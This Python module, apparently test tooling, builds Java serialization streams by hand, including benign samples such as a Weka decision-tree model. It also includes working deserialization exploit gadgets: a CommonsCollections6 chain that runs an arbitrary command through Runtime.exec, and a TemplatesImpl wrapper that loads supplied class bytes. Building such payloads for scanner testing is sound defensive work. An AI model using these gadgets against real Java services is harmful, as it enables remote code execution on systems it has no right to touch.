"""Builds what Java's `ObjectOutputStream` writes (Java Object Serialization Specification, 6)."""

import struct
from dataclasses import dataclass, field

HEADER = b"\xac\xed\0\x05"
WRITE_METHOD, SERIALIZABLE, EXTERNALIZABLE, BLOCK_DATA, ENUM = 1, 2, 4, 8, 16
NULL, REFERENCE, CLASS, OBJECT, STRING, ARRAY, LITERAL, BLOCK, END = (
    bytes([code]) for code in range(0x70, 0x79)
)
RESET, LONG_BLOCK, EXCEPTION, LONG_STRING, PROXY, ENUM_VALUE = (
    bytes([code]) for code in range(0x79, 0x7F)
)
FIRST = 0x7E0000


@dataclass(frozen=True)
class Type:
    """A class: its fields, primitive ones first, as (letter, name), and its superclass."""

    name: str
    fields: tuple = ()
    flags: int = SERIALIZABLE
    parent: "Type | None" = None
    interfaces: tuple = ()


@dataclass(eq=False)
class Thing:
    """An object; `parts` are what each class of it wrote, the topmost first."""

    of: Type
    parts: list = field(default_factory=list)


@dataclass(eq=False)
class Array:
    """An array: the name of its class, and bytes or a list of objects."""

    name: str
    items: object


@dataclass(frozen=True)
class Data:
    """Block data that a `writeObject` wrote."""

    content: bytes


@dataclass(frozen=True)
class Fields:
    """Primitive fields as they stand in the stream, without a mark."""

    content: bytes


@dataclass(frozen=True)
class Literal:
    """A class as a value."""

    of: Type


@dataclass(frozen=True)
class Constant:
    """A value of an enum."""

    of: Type
    name: str


class Writer:
    """Writes contents one after the other; what was there before becomes a reference."""

    def __init__(self, longer=False):
        self.longer = longer
        self.data = bytearray(HEADER)
        self.handles = {}
        self.number = 0

    def write(self, value):
        """Write one content."""
        key = value if isinstance(value, str | Type | Constant) else id(value)
        if value is None:
            self.data += NULL
        elif isinstance(value, bytes):
            self.data += value
        elif isinstance(value, Data):
            self._block(value.content)
        elif isinstance(value, Fields):
            self.data += value.content
        elif key in self.handles:
            self.data += REFERENCE + struct.pack(">I", FIRST + self.handles[key])
        else:
            self._fresh(value, key)

    def _fresh(self, value, key):
        if isinstance(value, str):
            self._handle(key)
            raw = value.encode()
            long = len(raw) > 0xFFFF
            self.data += (LONG_STRING if long else STRING) + struct.pack(
                ">Q" if long else ">H", len(raw)
            )
            self.data += raw
        elif isinstance(value, Type):
            self._type(value)
        elif isinstance(value, Literal):
            self.data += LITERAL
            self.write(value.of)
            self._handle(key)
        elif isinstance(value, Constant):
            self.data += ENUM_VALUE
            self.write(value.of)
            self._handle(key)
            self.write(value.name)
        elif isinstance(value, Array):
            self._array(value, key)
        else:
            self.data += OBJECT
            self.write(value.of)
            self._handle(key)
            for part in value.parts:
                self.write(part)

    def _handle(self, key):
        self.handles[key] = self.number
        self.number += 1

    def _text(self, text):
        raw = text.encode()
        if self.longer:
            raw = b"".join(bytes([0xC0 | byte >> 6, 0x80 | byte & 0x3F]) for byte in raw)
        self.data += struct.pack(">H", len(raw)) + raw

    def _type(self, value):
        if value.interfaces:
            self.data += PROXY
            self._handle(value)
            self.data += struct.pack(">I", len(value.interfaces))
            for name in value.interfaces:
                self._text(name)
        else:
            self.data += CLASS
            self._text(value.name)
            self.data += struct.pack(">q", 1)
            self._handle(value)
            self.data += struct.pack(">BH", value.flags, len(value.fields))
            for letter, name in value.fields:
                self.data += letter[0].encode()
                self._text(name)
                if letter[0] in "L[":
                    self.write(letter)
        self.data += END
        self.write(value.parent)

    def _array(self, value, key):
        self.data += ARRAY
        self.write(Type(value.name))
        self._handle(key)
        if isinstance(value.items, bytes):
            width = {"B": 1, "Z": 1, "C": 2, "S": 2, "I": 4, "F": 4}.get(value.name[1], 8)
            self.data += struct.pack(">I", len(value.items) // width) + value.items
        else:
            self.data += struct.pack(">I", len(value.items))
            for item in value.items:
                self.write(item)

    def _block(self, content):
        long = len(content) > 0xFF
        self.data += LONG_BLOCK if long else BLOCK
        self.data += struct.pack(">I" if long else ">B", len(content)) + content


def stream(*contents, longer=False):
    """Return a stream of contents; `longer` writes names in more bytes than they need."""
    writer = Writer(longer)
    for content in contents:
        writer.write(content)
    return bytes(writer.data)


TEXT = "Ljava/lang/String;"
ANY = "Ljava/lang/Object;"
NUMBER = Type("java.lang.Number")
INTEGER = Type("java.lang.Integer", (("I", "value"),), parent=NUMBER)
HASH_MAP = Type(
    "java.util.HashMap", (("F", "loadFactor"), ("I", "threshold")), SERIALIZABLE | WRITE_METHOD
)
ARRAY_LIST = Type("java.util.ArrayList", (("I", "size"),), SERIALIZABLE | WRITE_METHOD)


def thing(name, *held, letters=ANY):
    """Return an object of a class with a field for each object that it holds."""
    fields = tuple((letters, f"field{number}") for number in range(len(held)))
    return Thing(Type(name, fields), list(held))


def integer(value):
    """Return a boxed number."""
    return Thing(INTEGER, [Fields(struct.pack(">i", value))])


def hash_map(pairs):
    """Return a map of the keys and values."""
    flat = [one for pair in pairs for one in pair]
    head = [Fields(struct.pack(">fi", 0.75, 12)), Data(struct.pack(">ii", 16, len(pairs)))]
    return Thing(HASH_MAP, [*head, *flat, END])


def array_list(*items):
    """Return a list."""
    size = struct.pack(">i", len(items))
    return Thing(ARRAY_LIST, [Fields(size), Data(size), *items, END])


def url(address, hashed=-1):
    """Return an address; Java writes the hash of its machine along, -1 where it is not known."""
    fields = (("I", "hashCode"), ("I", "port"), (TEXT, "host"), (TEXT, "protocol"))
    kind = Type("java.net.URL", fields, SERIALIZABLE | WRITE_METHOD)
    return Thing(kind, [Fields(struct.pack(">ii", hashed, -1)), address, "http", END])


def proxy(interface, handler):
    """Return a proxy whose calls `handler` answers."""
    parent = Type("java.lang.reflect.Proxy", (("Ljava/lang/reflect/InvocationHandler;", "h"),))
    return Thing(Type("", (), parent=parent, interfaces=(interface,)), [handler])


def tree():
    """Return what Weka saves: a tree, and the header of its data."""
    split = Type("weka.classifiers.trees.j48.ClassifierSplitModel", (("I", "m_numSubsets"),))
    weights = Array("[[D", [Array("[D", struct.pack(">3d", 1.0, 2.0, 3.0)), None])
    node = Thing(split, [Fields(struct.pack(">i", 2))])
    children = Array("[Lweka.classifiers.trees.j48.ClassifierTree;", [node, node, None])
    model = thing("weka.classifiers.trees.J48", node, weights, children)
    names = array_list("outlook", "temperature", integer(3))
    return model, thing("weka.core.Instances", "weather", names, hash_map([("a", integer(1))]))


COLLECTIONS = "org.apache.commons.collections"


def commons_collections(command):
    """Return the chain that starts `command` (ysoserial, CommonsCollections6)."""
    runtime = Literal(Type("java.lang.Runtime", (), 0))
    functors = f"{COLLECTIONS}.functors"
    constant = thing(f"{functors}.ConstantTransformer", runtime)
    arguments = Array("[Ljava.lang.Object;", [command])
    kinds = Array("[Ljava.lang.Class;", [Literal(Type("java.lang.String"))])
    invoker = thing(f"{functors}.InvokerTransformer", arguments, "exec", kinds)
    steps = Array(f"[L{COLLECTIONS}.Transformer;", [constant, invoker])
    chain = thing(f"{functors}.ChainedTransformer", steps)
    lazy = thing(f"{COLLECTIONS}.map.LazyMap", chain, hash_map([]))
    entry = thing(f"{COLLECTIONS}.keyvalue.TiedMapEntry", "key", lazy)
    kind = Type("java.util.HashSet", (), SERIALIZABLE | WRITE_METHOD)
    return Thing(kind, [Data(struct.pack(">ifi", 2, 0.75, 1)), entry, END])


JAVA_CLASS = (
    b"\xca\xfe\xba\xbe\0\0\0\x32\0\x05\x07\0\x02\x01\0\x01A\x07\0\x04\x01\0\x10java/lang/Object"
    b"\0\x21\0\x01\0\x03\0\0\0\0\0\0\0\0"
)
"""A class without fields and methods."""


def templates(code=JAVA_CLASS):
    """Return an object that defines the class in its bytes (ysoserial, Gadgets)."""
    name = "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"
    return thing(name, Array("[[B", [Array("[B", code)]), "Pwnr")
